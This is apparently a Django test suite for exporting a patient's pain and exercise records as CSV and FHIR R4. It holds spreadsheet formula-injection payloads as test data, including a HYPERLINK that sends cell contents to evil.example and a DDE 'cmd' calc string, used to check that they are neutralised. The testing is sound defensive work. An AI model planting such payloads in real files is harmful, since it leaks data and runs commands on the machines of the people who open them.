"""A patient's record as CSV (formula injection neutralised) and as a FHIR R4 Bundle
(validated with fhir.resources), for the patient's own clinician only."""

import csv
import datetime
import io
import json

import pytest
import time_machine
from django.urls import reverse
from fhir.resources.R4B.bundle import Bundle

from patients import exports
from patients.models import Assignment, ExerciseLog, PainLog
from tests.factories import AssignmentFactory, BodyRegionFactory, PatientFactory
from tests.patients.dated import (
    NOW,
    ExerciseLogFactory,
    ItemFactory,
    PainLogFactory,
    days_ago,
    moment,
)

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
# As the CSV writes them: a quote first, and after a tab or line break inside the cell.
NEUTRALISED = {text: "'" + text.replace("\t=", "\t'=").replace("\r=", "\r'=") for text in HOSTILE}
# Harmless for a comma-separated reader, a formula for one that splits on semicolons.
SEMICOLON_HOSTILE = [
    "1;=cmd|' /C calc'!A0",
    "fine; +1+2",
    "ok,@SUM(A1:A9)",
    "first line\n=1+1",
    "a;\t-2+3",
]


@pytest.fixture(autouse=True)
def frozen_time():
    with time_machine.travel(NOW, tick=False) as traveller:
        yield traveller


@pytest.fixture
def record(clinician):
    return PatientFactory(
        clinician=clinician,
        user__first_name="Pat",
        user__last_name="Jones",
        user__email="pat@example.org",
        phone="+447911123456",
        time_zone="America/New_York",
    )


@pytest.fixture
def program(record):
    return AssignmentFactory(patient=record, starts_on=days_ago(20), title="Calf program")


def csv_of(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


# --- CSV --------------------------------------------------------------------------------------


def test_the_csv_has_every_pain_log_and_exercise_session_oldest_first(
    client, clinician, record, program
):
    calf = BodyRegionFactory(name="Back of calf")
    item = ItemFactory(assignment=program, name="Heel drops", times_per_day=2)
    PainLogFactory(
        patient=record,
        assignment=program,
        score=6,
        region=calf,
        timing="waking",
        recorded_for=moment(days_ago(2), 14),
        calf_swollen_warm_red=False,
    )
    PainLogFactory(patient=record, assignment=program, score=3, recorded_for=moment(days_ago(1)))
    ExerciseLogFactory(item=item, performed_on=days_ago(2), difficulty="too_hard", pain_during=4)
    ExerciseLogFactory(
        item=item,
        performed_on=days_ago(2),
        session=2,
        status="skipped",
        skip_reason="No time.",
    )
    PainLogFactory(patient=PatientFactory(clinician=clinician), score=9)  # someone else's
    client.force_login(clinician)

    response = client.get(reverse("patients:patient_export_csv", args=[record.pk]))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="patient-{record.pk}-record-2025-03-05.csv"'
    )
    assert "no-store" in response["Cache-Control"]
    rows = csv_of(response)
    header, body = rows[0], rows[1:]
    assert header[:5] == ["record", "date", "local time", "program", "pain score (0-10)"]
    assert len(body) == 4
    # 3 March 14:00 UTC is 09:00 in New York; the exercise sessions follow that day's pain.
    assert body[0][:9] == [
        "pain",
        "2025-03-03",
        "09:00",
        "Calf program",
        "6",
        "Back of calf",
        "",
        "On waking",
        "",
    ]
    safety = header.index("one calf newly swollen, warm or red")
    assert body[0][safety : safety + 3] == ["no", "", ""]
    # The body chart areas marked follow the safety answers (none on this log).
    areas = header.index("marked on the body chart")
    assert areas > safety
    assert body[0][areas] == ""
    assert [row[0] for row in body] == ["pain", "exercise", "exercise", "pain"]
    assert body[1][9:15] == ["Heel drops", "1", "Done", "Too hard", "4", ""]
    assert body[2][9:15] == ["Heel drops", "2", "Skipped", "", "", "No time."]
    assert body[3][1:3] == ["2025-03-04", "04:00"]


def test_cells_that_would_run_as_formulas_are_neutralised(client, clinician, record):
    program = AssignmentFactory(patient=record, starts_on=days_ago(10), title="=cmd|' /C calc'!A0")
    item = ItemFactory(assignment=program, name="@evil")
    for n, text in enumerate(HOSTILE):
        PainLogFactory(
            patient=record,
            assignment=program,
            note=text,
            region_other=text,
            recorded_for=moment(days_ago(n + 1)),
        )
        ExerciseLogFactory(
            item=item, performed_on=days_ago(n + 1), status="skipped", skip_reason=text
        )
    client.force_login(clinician)

    rows = csv_of(client.get(reverse("patients:patient_export_csv", args=[record.pk])))

    cells = [cell for row in rows[1:] for cell in row]
    for text in HOSTILE:
        assert cells.count(NEUTRALISED[text]) == 3  # note, where and reason
        assert text not in cells
    assert "'=cmd|' /C calc'!A0" in cells
    assert "'@evil" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_no_cell_runs_as_a_formula_in_a_spreadsheet_that_splits_on_semicolons(
    client, clinician, record
):
    for n, text in enumerate(SEMICOLON_HOSTILE):
        PainLogFactory(
            patient=record, note=text, region_other=text, recorded_for=moment(days_ago(n + 1))
        )
    client.force_login(clinician)
    response = client.get(reverse("patients:patient_export_csv", args=[record.pk]))
    body = b"".join(response.streaming_content).decode("utf-8")[1:]

    for delimiter in (",", ";", "\t"):
        pieces = [
            cell for row in csv.reader(io.StringIO(body), delimiter=delimiter) for cell in row
        ]
        assert not [p for p in pieces if p.lstrip(' "').startswith(("=", "+", "-", "@"))], delimiter


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=b", "a=b"),
        ("", ""),
        (7, 7),
        (" =1+1", "' =1+1"),
        ("1;=cmd|' /C calc'!A0", "1;'=cmd|' /C calc'!A0"),
        ("a, +b", "a, '+b"),
        ("ok\n@x", "ok\n'@x"),
        ("a;\t-2", "a;\t'-2"),
        ("pain 3; better", "pain 3; better"),
        ("2025-03-04T10:00:00+00:00", "2025-03-04T10:00:00+00:00"),
    ],
)
def test_neutralise(value, expected):
    assert exports.neutralise(value) == expected


def test_the_csv_is_read_in_two_queries_whatever_the_number_of_logs(
    client, clinician, record, program, django_assert_max_num_queries
):
    item = ItemFactory(assignment=program)
    PainLog.objects.bulk_create(
        PainLog(patient=record, assignment=program, score=n % 11, recorded_for=moment(days_ago(n)))
        for n in range(300)
    )
    ExerciseLog.objects.bulk_create(
        ExerciseLog(
            patient=record,
            assignment=program,
            item=item,
            performed_on=days_ago(n),
            status="done",
        )
        for n in range(300)
    )
    client.force_login(clinician)
    response = client.get(reverse("patients:patient_export_csv", args=[record.pk]))

    # Pain logs, exercise logs, and the questionnaires answered (none here).
    with django_assert_max_num_queries(3):
        rows = csv_of(response)
    assert len(rows) == 601


# --- FHIR -------------------------------------------------------------------------------------


@pytest.fixture
def bundle(client, clinician, record, program):
    ItemFactory(assignment=program, name="Calf stretch", hold_seconds=30, sets=None, reps=3)
    ItemFactory(assignment=program, name="Supportive shoes", sets=None, reps=None)
    ended = AssignmentFactory(patient=record, starts_on=days_ago(60), ends_on=days_ago(21))
    Assignment.objects.filter(pk=ended.pk).update(status=Assignment.Status.ENDED)
    paused = AssignmentFactory(patient=record, starts_on=days_ago(5))
    Assignment.objects.filter(pk=paused.pk).update(status=Assignment.Status.PAUSED)
    for n, score in enumerate([7, 5, 0, 10]):
        PainLogFactory(
            patient=record,
            assignment=program,
            score=score,
            recorded_for=moment(days_ago(n + 1), 13),
            note="Better today" if n == 0 else "",
            region_other="Heel" if n == 1 else "",
        )
    client.force_login(clinician)
    response = client.get(reverse("patients:patient_export_fhir", args=[record.pk]))
    assert response.status_code == 200
    return response


def test_the_bundle_is_valid_fhir_r4(bundle):
    data = json.loads(bundle.content)

    parsed = Bundle.model_validate(data)

    assert parsed.type == "collection"
    assert bundle["Content-Type"] == "application/fhir+json"
    assert bundle["Content-Disposition"].startswith("attachment; filename=")
    assert bundle["Content-Disposition"].endswith('-fhir-2025-03-05.json"')


def test_every_pain_score_is_a_loinc_72514_3_observation_about_the_patient(bundle, record):
    entries = json.loads(bundle.content)["entry"]
    [patient] = [e for e in entries if e["resource"]["resourceType"] == "Patient"]
    observations = [
        e["resource"] for e in entries if e["resource"]["resourceType"] == "Observation"
    ]

    assert patient["fullUrl"].startswith("urn:uuid:")
    assert patient["resource"]["name"][0]["family"] == "Jones"
    assert patient["resource"]["name"][0]["given"] == ["Pat"]
    assert {"system": "email", "value": "pat@example.org", "use": "home"} in patient["resource"][
        "telecom"
    ]
    assert {"system": "phone", "value": "+447911123456", "use": "mobile"} in patient["resource"][
        "telecom"
    ]
    assert sorted(o["valueInteger"] for o in observations) == [0, 5, 7, 10]
    for observation in observations:
        assert observation["code"]["coding"] == [
            {
                "system": "http://loinc.org",
                "code": "72514-3",
                "display": "Pain severity - 0-10 verbal numeric rating [Score] - Reported",
            }
        ]
        assert observation["category"][0]["coding"][0]["code"] == "survey"
        assert observation["subject"] == {"reference": patient["fullUrl"]}
        assert observation["status"] == "final"
    # 13:00 UTC on 4 March, in the patient's zone with its offset.
    latest = next(o for o in observations if o["valueInteger"] == 7)
    assert latest["effectiveDateTime"] == "2025-03-04T08:00:00-05:00"
    assert latest["note"] == [{"text": "Better today"}]
    assert next(o for o in observations if o["valueInteger"] == 5)["bodySite"] == {"text": "Heel"}
    assert len({e["fullUrl"] for e in entries}) == len(entries)


def test_each_program_is_a_care_plan_with_its_exercises_and_dosage(bundle, program):
    entries = json.loads(bundle.content)["entry"]
    plans = [e["resource"] for e in entries if e["resource"]["resourceType"] == "CarePlan"]

    assert sorted(p["status"] for p in plans) == ["active", "completed", "on-hold"]
    plan = next(p for p in plans if p["title"] == "Calf program")
    assert plan["intent"] == "plan"
    assert plan["period"] == {"start": "2025-02-13"}
    activities = [
        (a["detail"]["code"]["text"], a["detail"]["description"]) for a in plan["activity"]
    ]
    assert activities == [
        ("Calf stretch", "hold 30 seconds, repeat 3 times, once a day · every day"),
        ("Supportive shoes", "every day"),
    ]
    assert {a["detail"]["status"] for a in plan["activity"]} == {"in-progress"}
    ended = next(p for p in plans if p["status"] == "completed")
    assert ended["period"] == {"start": "2025-01-04", "end": "2025-02-12"}


def test_a_patient_with_few_details_still_gives_a_valid_bundle(client, clinician):
    patient = PatientFactory(
        clinician=clinician,
        user__first_name="",
        user__last_name="",
        user__email="",
        user__username="solo",
    )
    PainLogFactory(patient=patient, score=4)
    client.force_login(clinician)

    data = client.get(reverse("patients:patient_export_fhir", args=[patient.pk])).json()

    Bundle.model_validate(data)
    assert data["entry"][0]["resource"]["name"] == [{"use": "official", "text": "solo"}]
    assert "telecom" not in data["entry"][0]["resource"]


def test_the_same_record_exported_twice_names_the_same_resources(client, clinician, record):
    PainLogFactory(patient=record)
    client.force_login(clinician)
    url = reverse("patients:patient_export_fhir", args=[record.pk])

    first, second = client.get(url).json(), client.get(url).json()

    assert [e["fullUrl"] for e in first["entry"]] == [e["fullUrl"] for e in second["entry"]]


# --- who may export -------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["patient_export_csv", "patient_export_fhir"])
def test_another_clinician_gets_404_a_patient_403_and_a_visitor_the_login(
    client, other_clinician, record, name
):
    PainLogFactory(patient=record, note="private")
    url = reverse(f"patients:{name}", args=[record.pk])

    response = client.get(url)
    assert response.status_code == 302
    assert response.url.startswith(reverse("login"))
    client.force_login(record.user)
    assert client.get(url).status_code == 403
    client.force_login(other_clinician)
    assert client.get(url).status_code == 404
    assert client.post(url).status_code == 404


@pytest.mark.parametrize("name", ["patient_export_csv", "patient_export_fhir"])
def test_exports_only_answer_get(client, clinician, record, name):
    client.force_login(clinician)

    assert client.post(reverse(f"patients:{name}", args=[record.pk])).status_code == 405


def test_the_filename_carries_no_name(record):
    assert exports.export_filename(record, "record", datetime.date(2025, 1, 2)) == (
        f"patient-{record.pk}-record-2025-01-02"
    )


# --- The side of the body -------------------------------------------------------------------


@pytest.fixture
def sided_logs(record, program):
    calf = BodyRegionFactory(name="Back of calf", lateral=True)
    for n, side in enumerate(["left", "right", "both"]):
        PainLogFactory(
            patient=record,
            assignment=program,
            score=n + 4,
            region=calf,
            side=side,
            recorded_for=moment(days_ago(n + 1), 13),
        )


def test_the_csv_carries_the_side_next_to_where(client, clinician, record, sided_logs):
    client.force_login(clinician)

    rows = csv_of(client.get(reverse("patients:patient_export_csv", args=[record.pk])))

    header, body = rows[0], rows[1:]
    assert header[5:7] == ["where", "side"]
    assert [row[4:7] for row in body] == [
        ["6", "Back of calf", "Both sides"],
        ["5", "Back of calf", "Right"],
        ["4", "Back of calf", "Left"],
    ]


def test_the_fhir_body_site_carries_the_side_as_a_snomed_laterality(
    client, clinician, record, sided_logs
):
    client.force_login(clinician)
    response = client.get(reverse("patients:patient_export_fhir", args=[record.pk]))
    data = json.loads(response.content)
    Bundle.model_validate(data)

    sites = {
        e["resource"]["valueInteger"]: e["resource"]["bodySite"]
        for e in data["entry"]
        if e["resource"]["resourceType"] == "Observation"
    }
    assert sites[4]["text"] == "Back of calf, left"
    [extension] = sites[4]["extension"]
    assert extension["url"] == exports.LATERALITY_EXTENSION
    codes = {score: site["extension"][0]["valueCodeableConcept"] for score, site in sites.items()}
    assert codes[4]["coding"] == [
        {"system": "http://snomed.info/sct", "code": "7771000", "display": "Left"}
    ]
    assert codes[5]["coding"][0]["code"] == "24028007"
    assert codes[6]["coding"][0]["code"] == "51440002"
    assert codes[6]["text"] == "Both sides"
